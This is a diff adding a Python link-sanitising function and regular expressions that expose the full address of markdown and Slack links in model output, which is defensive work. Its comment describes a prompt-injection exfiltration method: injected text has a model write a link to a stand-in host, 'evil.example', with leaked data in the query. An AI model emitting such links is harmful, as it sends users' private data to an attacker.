@@ -356,3 +356,47 @@ def _close(text: str, kept: int, runs: list[_Run]) -> ClosedMarkdown:
 
 def _markers(runs: list[_Run]) -> str:
     return "".join(run.marker for run in reversed(runs))
+
+
+# Links that say where they lead. Pure, and in linear time.
+#
+# Who writes what a model reads can have it write "[the agenda](https://evil.example/?q=…)" with what it knows in the
+# address: a click, and it is gone. A reader sees the words alone, so such a link is made none, and its whole address
+# stands there to be read.
+#
+# Rules.
+# - A link keeps its words in place of its address only where that is a host and a path of plain letters. A query, a
+#   fragment, a name before the host, anything encoded, or a long path is shown; so is every scheme but the web's.
+# - What is a link is not decided here, as platforms differ: between the words and the address comes a space, and it is
+#   none anywhere. In code, where it would be none, the space comes, too.
+# - The text only grows: an address whose end may still come is held back with its words' last bracket.
+
+_PLAIN_ADDRESS = (
+    r"https?://[a-z0-9.-]{1,100}+(?::\d{1,5}+)?+"
+    r"(?:/[a-z0-9._~/@+-]{0,100}+(?:\([a-z0-9._~+-]{0,50}+\)[a-z0-9._~/@+-]{0,50}+)?+)?+"
+)
+_HIDING_LINK = regex.compile(
+    rf"""
+      \](?= [(:] \s*+ (?: <(?!{_PLAIN_ADDRESS}>) | (?!<|{_PLAIN_ADDRESS}(?:[)\s]|\Z)) )
+            [^\s()<>\]]{{0,40}}? (?: // | :[^\s)] | & | \\ | www\. ) )
+    | <(?= (?:https?|mailto|tel): [^<>\s|]*+ \| )                        # Slack's own form
+    """,
+    regex.VERBOSE | regex.IGNORECASE,
+)
+_LINK_BEGUN = regex.compile(
+    r"(?:\](?:[(:]\s*+<?+(?:[^\s()<>\]]|\([^\s()<>\]]*+\)?+){0,250}+)?+|<[a-z]{0,6}+(?::[^<>\s|]*+)?+)\Z",
+    regex.IGNORECASE,
+)
+
+
+def show_addresses(text: str, *, complete: bool) -> str:
+    """The same text, in which no link hides an address that may hold more than where it leads."""
+    begun = None if complete else _LINK_BEGUN.search(text, text.rfind("\n", 0, -1 - HELD_CHARS) + 1)
+    end = len(text) if begun is None else begun.start()
+    shown, at = list[str](), 0
+    for found in _HIDING_LINK.finditer(text):
+        if found.start() >= end:
+            break
+        shown += text[at : found.start()], "] " if found[0] == "]" else "‹"
+        at = found.end()
+    return "".join([*shown, text[at:end]])
